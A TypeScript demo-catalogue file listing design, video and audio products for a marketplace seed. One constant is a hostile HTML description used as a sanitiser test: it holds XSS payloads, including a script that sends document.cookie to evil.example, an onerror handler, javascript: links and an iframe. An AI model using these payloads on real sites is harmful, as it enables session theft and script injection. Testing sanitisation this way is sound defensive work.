import type { DemoItemKind } from './types'

/**
 * The hand-written part of the demo catalogue: what a seller of design assets, motion
 * templates and audio would really list. `seed.ts` turns each row into an item.
 */
export interface CatalogueEntry {
  name: string
  kind: DemoItemKind
  category: string
  sub: string
  regular: number
  extended: number
  tags: string[]
  version: string | null
  demo: boolean
  screenshots: number
  options: Record<string, string | string[]> | null
  intro: string
  features: string[]
  /** Replaces the generated description verbatim. */
  rawDescription?: string
}

/** The one description that must never reach the screen unsanitised. */
const HOSTILE_DESCRIPTION =
  '<p>Sixty seamless <b>retro pixel</b> patterns for games and posters.</p>' +
  '<script>document.title = "pwned"; fetch("https://evil.example/steal?c=" + document.cookie)</script>' +
  '<img src=x onerror="alert(\'xss\')">' +
  '<p><a href="javascript:alert(document.domain)">Open the pattern viewer</a></p>' +
  '<iframe src="https://evil.example/frame"></iframe>' +
  '<p style="background:url(javascript:alert(1))" onclick="alert(2)">Tileable at any size.</p>'

export const CATALOGUE: readonly CatalogueEntry[] = [
  {
    name: 'Aurora Admin Dashboard UI Kit',
    kind: 'image',
    category: 'UI Kits',
    sub: 'Dashboards',
    regular: 24,
    extended: 120,
    tags: ['admin', 'dashboard', 'dark mode', 'figma'],
    version: '2.4.1',
    demo: true,
    screenshots: 3,
    options: {
      Layout: 'Responsive',
      Browsers: ['Chrome', 'Firefox', 'Safari', 'Edge'],
      'Files Included': ['Figma', 'Sketch']
    },
    intro: 'A complete admin dashboard kit with 120 screens in light and dark mode.',
    features: ['Auto-layout components', 'Charts, tables and forms', 'Free lifetime updates']
  },
  {
    name: 'Cascade Landing Page Templates',
    kind: 'image',
    category: 'Templates',
    sub: 'Landing Pages',
    regular: 19,
    extended: 95,
    tags: ['landing', 'saas', 'startup'],
    version: '1.3.0',
    demo: true,
    screenshots: 2,
    options: { Layout: 'Responsive', Framework: 'Tailwind CSS' },
    intro: 'Twelve conversion-focused landing pages for SaaS products and apps.',
    features: [
      'Tailwind CSS source',
      'Pricing, FAQ and testimonial blocks',
      'Lighthouse 100 performance'
    ]
  },
  {
    name: 'Ember Icon Set — 1,200 Line Icons',
    kind: 'image',
    category: 'Graphics',
    sub: 'Icons',
    regular: 14.5,
    extended: 72.5,
    tags: ['icons', 'line', 'svg'],
    version: '3.0.2',
    demo: false,
    screenshots: 1,
    options: { 'Files Included': ['SVG', 'PNG', 'Icon font'] },
    intro: 'Twelve hundred pixel-perfect line icons on a 24 px grid.',
    features: ['Editable stroke width', 'Icon font and React components', '32 categories']
  },
  {
    name: 'Bloom Watercolour Flowers',
    kind: 'image',
    category: 'Illustrations',
    sub: 'Botanical',
    regular: 12,
    extended: 60,
    tags: ['watercolor', 'flowers', 'wedding'],
    version: null,
    demo: false,
    screenshots: 0,
    options: null,
    intro: 'Hand-painted watercolour flowers, leaves and wreaths for invitations.',
    features: ['80 transparent PNG elements at 300 dpi', '12 ready-made wreaths']
  },
  {
    name: 'Midnight Mobile Banking App',
    kind: 'image',
    category: 'UI Kits',
    sub: 'Mobile',
    regular: 29,
    extended: 145,
    tags: ['mobile', 'fintech', 'ios', 'android'],
    version: '1.0.0',
    demo: true,
    screenshots: 4,
    options: { Platforms: ['iOS', 'Android'], 'Files Included': 'Figma' },
    intro: 'A banking app design with onboarding, cards, transfers and insights.',
    features: ['64 screens', 'Variables for light and dark themes', 'Prototype links included']
  },
  {
    name: 'Grove Outdoor Photo Bundle',
    kind: 'image',
    category: 'Photos',
    sub: 'Nature',
    regular: 21.1,
    extended: 105.5,
    tags: ['photography', 'forest', 'outdoor'],
    version: null,
    demo: false,
    screenshots: 0,
    options: {},
    intro: 'Forty high-resolution photographs of forests, lakes and mountain trails.',
    features: ['6000 × 4000 px JPEGs', 'Model and property released']
  },
  {
    name: 'Sunset Social Media Templates',
    kind: 'image',
    category: 'Templates',
    sub: 'Social Media',
    regular: 16,
    extended: 80,
    tags: ['instagram', 'stories', 'canva'],
    version: '2.1',
    demo: true,
    screenshots: 2,
    options: { Software: ['Canva', 'Photoshop'] },
    intro: 'Two hundred post and story templates in warm sunset colours.',
    features: ['Editable in Canva and Photoshop', 'Free fonts only']
  },
  {
    name: 'Lagoon Isometric Illustrations',
    kind: 'image',
    category: 'Illustrations',
    sub: 'Isometric',
    regular: 34.9,
    extended: 174.5,
    tags: ['isometric', 'tech', 'vector'],
    version: '1.2.0',
    demo: false,
    screenshots: 3,
    options: { 'Files Included': ['AI', 'SVG', 'Figma'] },
    intro: 'Thirty isometric scenes about cloud, security and remote work.',
    features: ['Fully vector', 'Colour styles for quick re-branding']
  },
  {
    name: 'Volt E-commerce Theme',
    kind: 'image',
    category: 'Templates',
    sub: 'E-commerce',
    regular: 49,
    extended: 245,
    tags: ['shop', 'ecommerce', 'html'],
    version: '4.0.0',
    demo: true,
    screenshots: 3,
    options: { Layout: 'Responsive', Browsers: ['Chrome', 'Firefox', 'Safari'], Columns: '4+' },
    intro: 'A fast storefront theme with mega menus, quick view and a one-page checkout.',
    features: ['Accessible (WCAG 2.1 AA)', '9 home page variants', 'RTL ready']
  },
  {
    name: 'Tide Presentation Deck',
    kind: 'image',
    category: 'Templates',
    sub: 'Presentations',
    regular: 18,
    extended: 90,
    tags: ['keynote', 'powerpoint', 'pitch deck'],
    version: '1.1.0',
    demo: false,
    screenshots: 2,
    options: { Software: ['Keynote', 'PowerPoint', 'Google Slides'] },
    intro: 'A clean pitch deck with 150 slides and animated charts.',
    features: ['16:9 and 4:3', 'Master slides', 'Editable maps and charts']
  },
  {
    name: 'Nebula 3D Shapes Pack',
    kind: 'image',
    category: 'Graphics',
    sub: '3D',
    regular: 22,
    extended: 110,
    tags: ['3d', 'render', 'abstract'],
    version: '1.0',
    demo: false,
    screenshots: 1,
    options: null,
    intro: 'A hundred glossy 3D shapes rendered at 4K on transparent backgrounds.',
    features: ['Blender source files', 'Four lighting setups']
  },
  {
    name: 'Dune Minimal Résumé Template',
    kind: 'image',
    category: 'Templates',
    sub: 'Print',
    regular: 9,
    extended: 45,
    tags: ['resume', 'cv', 'print'],
    version: '1.0.1',
    demo: false,
    screenshots: 2,
    options: { 'Paper Size': ['A4', 'US Letter'] },
    intro: 'A two-page résumé with a matching cover letter.',
    features: ['InDesign, Word and Pages files', 'Print ready with bleed']
  },
  {
    name: 'Retro Pixel Patterns',
    kind: 'image',
    category: 'Graphics',
    sub: 'Patterns',
    regular: 11,
    extended: 55,
    tags: ['pixel', 'retro', 'pattern'],
    version: '1.0.0',
    demo: true,
    screenshots: 1,
    options: null,
    intro: '',
    features: [],
    rawDescription: HOSTILE_DESCRIPTION
  },
  {
    name: 'Cinematic Title Sequence',
    kind: 'video',
    category: 'Motion Graphics',
    sub: 'Titles',
    regular: 26,
    extended: 130,
    tags: ['titles', 'cinematic', 'after effects'],
    version: '1.4.0',
    demo: true,
    screenshots: 0,
    options: { Software: 'After Effects CC 2020+', Resolution: ['4K', '1080p'] },
    intro: 'Dramatic titles with light leaks, dust and lens flares.',
    features: ['No plugins required', 'Render in minutes', 'Music link in the help file']
  },
  {
    name: 'Glitch Logo Reveal',
    kind: 'video',
    category: 'Motion Graphics',
    sub: 'Logo Stings',
    regular: 15,
    extended: 75,
    tags: ['logo', 'glitch', 'intro'],
    version: '2.0.0',
    demo: true,
    screenshots: 0,
    options: { Software: ['After Effects', 'Premiere Pro'] },
    intro: 'A punchy digital glitch reveal for your logo in under five seconds.',
    features: ['Drag-and-drop logo placeholder', 'Sound effects included']
  },
  {
    name: 'Drone Footage: Coastal Cliffs',
    kind: 'video',
    category: 'Stock Footage',
    sub: 'Nature',
    regular: 39,
    extended: 195,
    tags: ['drone', 'aerial', 'ocean'],
    version: null,
    demo: false,
    screenshots: 0,
    options: { Resolution: '4K', 'Frame Rate': '60 fps' },
    intro: 'Twelve aerial clips of cliffs and surf at golden hour.',
    features: ['Graded and log versions', 'ProRes 422']
  },
  {
    name: 'Minimal Lower Thirds Pack',
    kind: 'video',
    category: 'Motion Graphics',
    sub: 'Lower Thirds',
    regular: 12,
    extended: 60,
    tags: ['lower thirds', 'titles', 'youtube'],
    version: '1.2.3',
    demo: true,
    screenshots: 0,
    options: {},
    intro: 'Forty clean lower thirds for interviews, vlogs and corporate videos.',
    features: ['Auto-resizing text boxes', 'Premiere Pro MOGRTs']
  },
  {
    name: 'Slideshow Opener',
    kind: 'video',
    category: 'Video Templates',
    sub: 'Openers',
    regular: 19,
    extended: 95,
    tags: ['slideshow', 'opener', 'photo'],
    version: '1.0.0',
    demo: false,
    screenshots: 0,
    options: null,
    intro: 'An elegant parallax slideshow with 24 media placeholders.',
    features: ['One-click colour control', 'Full HD and 4K']
  },
  {
    name: 'Neon Light Transitions',
    kind: 'video',
    category: 'Motion Graphics',
    sub: 'Transitions',
    regular: 17.9,
    extended: 89.5,
    tags: ['neon', 'transitions', 'glow'],
    version: '3.1.0',
    demo: true,
    screenshots: 0,
    options: { Software: ['Premiere Pro', 'DaVinci Resolve', 'Final Cut Pro'] },
    intro: 'Sixty glowing neon transitions that snap between your clips.',
    features: ['Alpha channel included', 'Works at any frame rate']
  },
  {
    name: 'Café Lounge Beats',
    kind: 'audio',
    category: 'Music',
    sub: 'Lounge',
    regular: 14,
    extended: 70,
    tags: ['lounge', 'chill', 'cafe'],
    version: null,
    demo: false,
    screenshots: 0,
    options: { 'Audio Format': ['WAV', 'MP3'], Length: '2:48' },
    intro: 'A relaxed lounge track with soft keys, brushed drums and upright bass.',
    features: ['Full track and three loops', 'Royalty free']
  },
  {
    name: 'Corporate Uplifting Background',
    kind: 'audio',
    category: 'Music',
    sub: 'Corporate',
    regular: 19,
    extended: 95,
    tags: ['corporate', 'uplifting', 'motivational'],
    version: null,
    demo: false,
    screenshots: 0,
    options: { 'Audio Format': ['WAV', 'MP3'], Length: '3:05' },
    intro: 'An inspiring piano and strings piece for presentations and explainer videos.',
    features: ['60 s and 30 s edits', 'Stems available on request']
  },
  {
    name: 'Epic Trailer Hits',
    kind: 'audio',
    category: 'Sound Effects',
    sub: 'Cinematic',
    regular: 24,
    extended: 120,
    tags: ['trailer', 'impact', 'cinematic'],
    version: '1.1',
    demo: false,
    screenshots: 0,
    options: { 'Audio Format': 'WAV 24-bit' },
    intro: 'One hundred and twenty booms, risers and braams for trailers.',
    features: ['Designed and source layers', '96 kHz recordings']
  },
  {
    name: 'UI Clicks & Notifications',
    kind: 'audio',
    category: 'Sound Effects',
    sub: 'Interface',
    regular: 8,
    extended: 40,
    tags: ['ui', 'click', 'notification'],
    version: '2.0.0',
    demo: false,
    screenshots: 0,
    options: null,
    intro: 'Three hundred crisp interface sounds for apps and games.',
    features: ['Short, normalised and trimmed', 'Named by use']
  },
  {
    name: 'Lo-fi Study Loop',
    kind: 'audio',
    category: 'Music',
    sub: 'Lo-fi',
    regular: 10,
    extended: 50,
    tags: ['lofi', 'hip hop', 'loop'],
    version: null,
    demo: false,
    screenshots: 0,
    options: {},
    intro: 'A dusty lo-fi loop with vinyl crackle that repeats seamlessly.',
    features: ['Seamless 2-minute loop', '78 BPM']
  },
  {
    name: 'Acoustic Morning Guitar',
    kind: 'audio',
    category: 'Music',
    sub: 'Acoustic',
    regular: 16,
    extended: 80,
    tags: ['acoustic', 'guitar', 'happy'],
    version: null,
    demo: false,
    screenshots: 0,
    options: { 'Audio Format': ['WAV', 'MP3'] },
    intro: 'A bright fingerpicked guitar piece for travel and family videos.',
    features: ['Full track plus 30 s cut-down']
  },
  {
    name: 'Whoosh Transitions Pack',
    kind: 'audio',
    category: 'Sound Effects',
    sub: 'Transitions',
    regular: 12.5,
    extended: 62.5,
    tags: ['whoosh', 'swoosh', 'transition'],
    version: '1.0.0',
    demo: false,
    screenshots: 0,
    options: null,
    intro: 'Two hundred whooshes and swishes, from subtle to huge.',
    features: ['Mono and stereo versions']
  },
  {
    name: 'Portfolio Photography Theme',
    kind: 'image',
    category: 'Templates',
    sub: 'Portfolio',
    regular: 39,
    extended: 195,
    tags: ['portfolio', 'photography', 'gallery'],
    version: '5.2.0',
    demo: true,
    screenshots: 3,
    options: { Layout: 'Responsive', Gallery: ['Masonry', 'Justified', 'Slider'] },
    intro: 'A full-screen portfolio for photographers with client proofing.',
    features: ['Lazy-loaded galleries', 'Password-protected albums', 'Print shop integration']
  },
  {
    name: 'Hand-drawn Doodle Icons',
    kind: 'image',
    category: 'Graphics',
    sub: 'Icons',
    regular: 7,
    extended: 35,
    tags: ['doodle', 'hand drawn', 'icons'],
    version: '1.0.0',
    demo: false,
    screenshots: 0,
    options: null,
    intro: 'Five hundred playful hand-drawn icons for notes and education.',
    features: ['SVG and PNG', 'Procreate brushes included']
  },
  {
    name: 'Kids Alphabet Flashcards',
    kind: 'image',
    category: 'Illustrations',
    sub: 'Education',
    regular: 9.9,
    extended: 49.5,
    tags: ['kids', 'alphabet', 'printable'],
    version: '1.0.0',
    demo: false,
    screenshots: 2,
    options: { 'Paper Size': 'A5' },
    intro: 'Twenty-six cheerful animal flashcards, print ready.',
    features: ['CMYK PDFs', 'Editable AI source']
  },
  {
    name: 'Business Card Mockups',
    kind: 'image',
    category: 'Graphics',
    sub: 'Mockups',
    regular: 13,
    extended: 65,
    tags: ['mockup', 'business card', 'branding'],
    version: '1.3.0',
    demo: false,
    screenshots: 2,
    options: { 'Files Included': 'PSD' },
    intro: 'Twelve photorealistic business card mockups with smart objects.',
    features: ['5000 × 3500 px', 'Changeable backgrounds and shadows']
  }
]

/** Word lists for the cheap generated part of a large catalogue (`size`). */
export const GENERATED = {
  adjectives: [
    'Bold',
    'Clean',
    'Cosmic',
    'Crisp',
    'Dreamy',
    'Elegant',
    'Fresh',
    'Golden',
    'Hyper',
    'Lush',
    'Modern',
    'Moody',
    'Neon',
    'Nordic',
    'Pastel',
    'Retro',
    'Silky',
    'Smooth',
    'Sunny',
    'Urban',
    'Vintage',
    'Vivid',
    'Wild',
    'Zen'
  ],
  nouns: [
    'Atlas',
    'Beacon',
    'Canyon',
    'Comet',
    'Delta',
    'Echo',
    'Fjord',
    'Harbor',
    'Horizon',
    'Iris',
    'Juniper',
    'Kite',
    'Lotus',
    'Meadow',
    'Orbit',
    'Prism',
    'Quartz',
    'Ripple',
    'Sierra',
    'Summit',
    'Tundra',
    'Vertex',
    'Willow',
    'Zephyr'
  ],
  image: [
    ['UI Kit', 'UI Kits', 'Web'],
    ['Icon Pack', 'Graphics', 'Icons'],
    ['Illustration Set', 'Illustrations', 'Characters'],
    ['Mockup Bundle', 'Graphics', 'Mockups'],
    ['Website Template', 'Templates', 'Business']
  ],
  video: [
    ['Logo Reveal', 'Motion Graphics', 'Logo Stings'],
    ['Intro Template', 'Video Templates', 'Openers'],
    ['Stock Clip', 'Stock Footage', 'City']
  ],
  audio: [
    ['Background Track', 'Music', 'Ambient'],
    ['Sound Kit', 'Sound Effects', 'Foley'],
    ['Jingle', 'Music', 'Pop']
  ]
} as const
